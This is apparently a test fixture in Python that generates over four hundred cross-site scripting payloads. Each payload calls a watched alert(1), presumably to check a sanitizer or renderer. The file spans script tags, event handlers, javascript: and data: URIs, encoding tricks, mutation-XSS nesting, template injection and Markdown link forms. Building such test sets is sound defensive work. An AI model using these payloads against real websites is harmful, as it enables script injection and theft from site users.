"""Texts that run a script in a page which trusts them: each calls `alert`, which is watched."""

from __future__ import annotations

from itertools import product

CALL = "alert(1)"
_ELEMENTS = (
    *("img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus"),
    *(
        "select autofocus",
        "textarea autofocus",
        "iframe src=//127.0.0.1:1",
        "marquee",
        "object data=x",
    ),
    *("form", "button autofocus", "a href=# id=x tabindex=1", "p style=animation:x"),
)
_HANDLERS = (
    *("onerror", "onload", "ontoggle", "onfocus", "onstart", "onmouseover", "onpointerenter"),
    "onanimationstart",
)
_SCHEMES = (
    "javascript:§", "JaVaScRiPt:§", "  javascript:§", "java\tscript:§", "java\nscript:§",
    "java&#9;script:§", "&#106;avascript:§", "&#x6A;avascript:§", "javascript&colon;§",
    "javascript&#58;§", "\x01javascript:§", "javascript://%0a§", "javascript:/*--></title>*/§",
    "data:text/html,<script>§</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
    "data:image/svg+xml,<svg onload=§>", "vbscript:§", "blob:http://x/§", "//x\" onclick=\"§",
    "http:javascript:§", "feed:javascript:§", "view-source:javascript:§", "jar:javascript:§",
)  # fmt: skip
_LINKS = (
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "<a href=\"{}\">x</a>",
)  # fmt: skip
_SINGLE = """
<script>§</script>
<script >§</script >
<ScRiPt>§</sCrIpT>
<script/x>§</script>
<script src=data:text/javascript,§></script>
<script type=module>§</script>
<scr<script>ipt>§</scr</script>ipt>
<<script>§//<</script>
<script>§⏎</script><script>§</script>
</title><script>§</script>
</textarea><script>§</script>
</style><script>§</script>
--><script>§</script>
]]><script>§</script>
"><script>§</script>
'><script>§</script>
"><img src=x onerror=§>
' onfocus=§ autofocus x='
" onfocus=§ autofocus x="
" onmouseover="§
x onclick=§
<svg><script>§</script></svg>
<svg><script href=data:,§ /></svg>
<svg><animate onbegin=§ attributeName=x dur=1s>
<svg><set onbegin=§ attributename=x>
<svg><a xlink:href="javascript:§"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x><script>§</script></svg>#x">
<svg><foreignObject><iframe onload=§></iframe></foreignObject></svg>
<svg><style><img src=x onerror=§></style></svg>
<math><mi//xlink:href="data:x,<script>§</script>">
<math><mtext><table><mglyph><style><img src=x onerror=§></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=§ src>">
<noscript><p title="</noscript><img src=x onerror=§>">
<noembed><img title="</noembed><img src=x onerror=§>"></noembed>
<xmp><p title="</xmp><svg/onload=§>">
<title><p title="</title><img src=x onerror=§>">
<template><script>§</script></template>
<template shadowrootmode=open><img src=x onerror=§></template>
<select><template><img src=x onerror=§></template></select>
<table><caption><svg><title><style><img src=x onerror=§>
<option><style></option></select><img src=x onerror=§></style>
<a id=1 href="1" onclick="§"><b>1
<a href="javascript:§">x</a>
<a href="  &#14; javascript:§">x</a>
<area href=javascript:§>
<map name=x><area href=javascript:§ shape=rect coords=0,0,999,999></map><img usemap=#x src=x>
<form action=javascript:§><input type=submit autofocus></form>
<button formaction=javascript:§>x</button>
<input type=image src=x onerror=§>
<isindex action=javascript:§ type=image>
<iframe srcdoc="<script>parent.§</script>"></iframe>
<iframe src=javascript:§></iframe>
<iframe/src="data:text/html,<svg onload=parent.§>">
<object data="javascript:§"></object>
<object data="data:text/html,<script>parent.§</script>"></object>
<embed src=javascript:§>
<embed code="data:text/html,<script>§</script>">
<applet code="javascript:§">
<link rel=import href="data:text/html,<script>§</script>">
<link rel=stylesheet href="javascript:§">
<meta http-equiv=refresh content="0;url=javascript:§">
<meta http-equiv="Content-Security-Policy" content="script-src *"><script>§</script>
<base href="javascript:§//"><a href=x>x</a>
<style>@import "javascript:§";</style>
<style>*{background:url("javascript:§")}</style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=§>
<p style="width:expression(§)">x</p>
<p style="background:url(javascript:§)">x</p>
<div style="behavior:url(x.htc)" onclick=§>x</div>
<img src="x`<script>§</script>"`>
<img src=x:x onerror=javascript:§>
<img srcset=",x,x 2x" onerror=§>
<img lowsrc=javascript:§>
<image src=x onerror=§>
<picture><source srcset=x><img src=x onerror=§></picture>
<video><source onerror=§></video>
<video poster=javascript:§></video>
<video onloadstart=§ src=x>
<audio controls onloadstart=§><source></audio>
<keygen autofocus onfocus=§>
<dialog open onclose=§><form method=dialog><button>x</button></form></dialog>
<div popover id=p onbeforetoggle=§>x</div><button popovertarget=p>x</button>
<input type=hidden oncontentvisibilityautostatechange=§ style=content-visibility:auto>
<xss contenteditable onbeforeinput=§>x
<x tabindex=1 onfocusin=§ id=x>
<slot onslotchange=§>
<body onhashchange=§><a href=#x>x</a>
<body onpageshow=§>
<frameset onload=§>
<frameset><frame src=javascript:§></frameset>
<bgsound src=javascript:§>
<layer src=javascript:§></layer>
<!--[if gte IE 4]><script>§</script><![endif]-->
<!--><img src=x onerror=§>-->
<!-- --!><img src=x onerror=§>
<![CDATA[<img src=x onerror=§>]]>
<?xml-stylesheet href="javascript:§"?>
<!DOCTYPE x [<!ENTITY x SYSTEM "javascript:§">]><x>&x;</x>
&lt;script&gt;§&lt;/script&gt;
&#60;script&#62;§&#60;/script&#62;
&#x3c;img src=x onerror=§&#x3e;
\\u003cscript\\u003e§\\u003c/script\\u003e
\\x3cimg src=x onerror=§\\x3e
%3Cscript%3E§%3C/script%3E
+ADw-script+AD4-§+ADw-/script+AD4-
${§}
`${§}`
{{constructor.constructor('§')()}}
{{§}}
<%= § %>
#{§}
';§//
";§//
\\";§//
`;§//
});§//
*/§/*
javascript:§
\u2028<script>§</script>
\u202e<script>§</script>\u202c
\ufeff<script>§</script>
\u00bcscript\u00be§\u00bc/script\u00be
\uff1cscript\uff1e§\uff1c/script\uff1e
<\u017fcript>§</\u017fcript>
<img src=x onerror\u00a0=§>
<img src=x on\u0000error=§>
<img/src/onerror=§>
<img\x0csrc=x\x0conerror=§>
<img src=x one\u200brror=§>
\x1b[2J\x1b]8;;javascript:§\x07x\x1b]8;;\x07
\x1b]0;<script>§</script>\x07
**<img src=x onerror=§>**
`<img src=x onerror=§>`
# <svg onload=§>
> <svg onload=§>
- [ ] <svg onload=§>
| <svg onload=§> | x |⏎|---|---|⏎| <img src=x onerror=§> | [x](javascript:§) |
```html⏎<script>§</script>⏎```
```"><img src=x onerror=§>⏎x⏎```
~~~<script>§</script>⏎x⏎~~~
    <script>§</script>
[<img src=x onerror=§>](https://x.example)
[x](https://x.example "\\"><img src=x onerror=§>")
[x](https://x.example '"onmouseover="§')
![<script>§</script>](x)
![x](https://x.example/x.png"onerror="§)
[x]( javascript:§ )
[x](javascript\\:§)
[a][<script>§</script>]
[^1]: <script>§</script>
<https://x.example/"onmouseover="§>
<javascript:§>
https://x.example/<script>§</script>
https://x.example/"onmouseover="§
$$\\href{javascript:§}{x}$$
$x<img src=x onerror=§>$
:x"onload="§:
<details><summary>x</summary><script>§</script></details>
<b><p><script>§</script></p></b>
<p id=app>x</p><script>§</script>
<form id=composer><input name=innerHTML value=§></form>
<img name=getElementById src=x onerror=§>
<a id=location href=javascript:§>x</a>
<div data-copy onclick=§>x</div>
<button data-copy=code formaction=javascript:§>x</button>
__proto__[onerror]=§
constructor[prototype][innerHTML]=<img src=x onerror=§>
""".strip()
"""One a line; `§` is the call, `⏎` a new line."""


def payloads() -> list[str]:
    """More than four hundred, none twice."""
    elements = [f"<{tag} {on}=§>" for tag, on in product(_ELEMENTS, _HANDLERS)]
    links = [link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)]
    lines = [*_SINGLE.split("\n"), *elements, *links]
    return [*dict.fromkeys(line.replace("⏎", "\n").replace("§", CALL) for line in lines)]
